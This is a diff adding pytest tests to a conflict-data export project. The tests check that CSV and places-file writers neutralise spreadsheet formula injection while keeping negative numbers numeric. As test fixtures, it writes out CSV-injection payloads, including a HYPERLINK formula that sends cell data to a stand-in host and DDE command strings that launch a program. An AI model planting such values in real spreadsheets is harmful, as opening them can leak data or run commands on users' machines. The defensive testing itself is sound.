@@ -15,6 +15,7 @@ from frontlines.export import (
     acled_row,
     disorder_type,
     interaction,
+    safe_cell,
     write_acled_csv,
     write_geojson,
     write_json,
@@ -164,3 +165,73 @@ def test_acled_conventions():
     assert list(row) == EXPECTED_COLUMNS
     assert row["interaction"] == 60 and row["source"] == "d9" and row["tags"] == "hedged claim"
     assert row["fatalities"] == 0 and row["event_date"] == "" and row["event_id_cnty"] == "abc"
+
+
+# ----------------------------------------------------------------------------- CSV injection (OWASP)
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "=1+2\";=1+2", "-", "=", "@"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_safe_cell_neutralises_formulas(value):
+    assert safe_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", [-3, -35.2, 0, 4, "-3", "-35.2", "+7", "-0.5", "-1e5", "36.6", "", None,
+                                   "Binnish", "'quoted", " =not first", "Hayat Tahrir al-Sham", "a=b", "x-y"])
+def test_safe_cell_leaves_numbers_and_plain_text(value):
+    assert safe_cell(value) == value
+
+
+def _hostile_events(events: list[dict]) -> list[dict]:
+    """The fixture events with a document's and a reviewer's formulas in the text columns, and a negative lon."""
+    evil = [dict(e) for e in events]
+    a, b = evil
+    a.update(notes='=HYPERLINK("http://evil.example","x")', actor1="@SUM(A1:A9)", location="+cmd|' /C calc'!A0",
+             admin1="-2+3", source="\t=1+2", actor2="\r=1+2", longitude=-35.25, latitude=-3.5)
+    b.update(assoc_actor_1=["=1+1", "Volunteers"], claimant=None, notes="-", admin2="-3")
+    return evil
+
+
+def test_acled_csv_neutralises_formula_cells(events: list[dict], tmp_path: Path):
+    out = tmp_path / "hostile.csv"
+    with out.open("w", newline="", encoding="utf-8") as fh:
+        write_acled_csv(_hostile_events(events), fh)
+    text = out.read_text(encoding="utf-8")
+    for cell in csv.reader(io.StringIO(text)):
+        for v in cell:
+            if v and v[0] in "=+-@\t\r":
+                assert _is_number(v), v  # only real numbers may start with - or +
+    raw = pd.read_csv(out, dtype=str, keep_default_na=False)
+    a = raw[raw["notes"].str.contains("HYPERLINK")].iloc[0]
+    assert a["notes"] == '\'=HYPERLINK("http://evil.example","x")' and a["actor1"] == "'@SUM(A1:A9)"
+    assert a["location"] == "'+cmd|' /C calc'!A0" and a["admin1"] == "'-2+3"
+    assert a["source"] == "'\t=1+2" and a["actor2"] == "'\r=1+2"
+    b = raw[raw["notes"] == "'-"].iloc[0]
+    assert b["assoc_actor_1"] == "'=1+1; Volunteers" and b["admin2"] == "-3"  # "-3" is a number: left alone
+    # negative numbers stay numbers
+    df = pd.read_csv(out)
+    assert df["longitude"].dtype.kind == "f" and -35.25 in set(df["longitude"]) and -3.5 in set(df["latitude"])
+    assert df["fatalities"].dtype.kind == "i"
+    assert ",-3.5,-35.25," in text
+
+
+def _is_number(v: str) -> bool:
+    try:
+        float(v)
+    except ValueError:
+        return False
+    return True
+
+
+def test_places_csv_neutralises_formula_cells(tmp_path: Path):
+    from frontlines.pack import Place, write_places_csv
+
+    out = tmp_path / "places.csv"
+    write_places_csv(out, [Place(id="gn:1", name="=HYPERLINK(\"x\")", kind="town", lat=-33.5, lon=-70.25,
+                                 admin1="@evil", variants=["-x", "ok"], source="geonames")])
+    raw = pd.read_csv(out, dtype=str, keep_default_na=False)
+    assert raw.iloc[0]["name"] == "'=HYPERLINK(\"x\")" and raw.iloc[0]["admin1"] == "'@evil"
+    assert raw.iloc[0]["variants"] == "'-x|ok"
+    assert pd.read_csv(out)["lat"].iloc[0] == -33.5
